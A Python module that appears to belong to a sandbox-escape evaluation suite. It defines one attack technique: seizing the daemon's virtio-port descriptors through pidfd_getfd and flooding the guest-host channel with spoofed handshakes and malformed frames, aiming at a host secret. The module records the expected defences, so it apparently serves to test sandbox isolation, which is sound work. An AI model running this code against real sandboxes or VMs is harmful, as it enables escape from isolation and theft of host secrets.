"""Whoever greets again is another peer, or the same, or both."""

import contextlib
import ctypes
import os
import struct
import time
from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import BLOCKED, HOST_SECRET, Technique

TECHNIQUE = Technique(
    tries="Take the daemon's ports and greet again, as the daemon, as the host, and in halves.",
    claim="G5",
    defences=("messages between processes",),
    stopped_by=("host:sandbox-ended",),
    goals=(HOST_SECRET,),
    policies=(BLOCKED,),
    alone=True,
    dies=True,
    seconds=40.0,
    blank="frames have a decoder in each of two languages, with bounds before allocation; tests/fuzz/wire holds the weakened forms",
)


def channel() -> list[int]:
    """The descriptors of the daemon's ports, taken from it."""
    libc, one, found = ctypes.CDLL(None, use_errno=True), os.pidfd_open(1), []
    for name in os.listdir("/proc/1/fd"):
        with contextlib.suppress(OSError):
            if "vport" in os.readlink(f"/proc/1/fd/{name}"):
                fd = libc.syscall(438, one, int(name), 0)
                if fd >= 0:
                    os.set_blocking(fd, True)
                    found.append(fd)
    if not found:
        raise RuntimeError("no port could be taken")
    return found


def frame(kind: int, stream: int, seq: int, payload: bytes = b"", size: int | None = None) -> bytes:
    """A frame of the channel."""
    return struct.pack("<IBBHII", len(payload) if size is None else size, kind, 0, 0, stream, seq) + payload + struct.pack("<I", seq)


def attack(case: Case, what: Any) -> None:
    data = b"\0SPACE-READY\1\r\n\0" * 50 + frame(2, 0, 1, b"\0SPACE-READY\1\r\n\0" + bytes(32)) + frame(4, 9999, 2, b"x")
    case.did(f"takes the ports of the daemon and writes {len(data)} bytes: {data[:40].hex()}")
    time.sleep(1)  # the daemon's ports block from then on, and nobody hears anything more
    ports = channel()
    for one in ports:
        left = memoryview(data)
        while left:
            left = left[os.write(one, left[:65_536]) :]
    time.sleep(20)
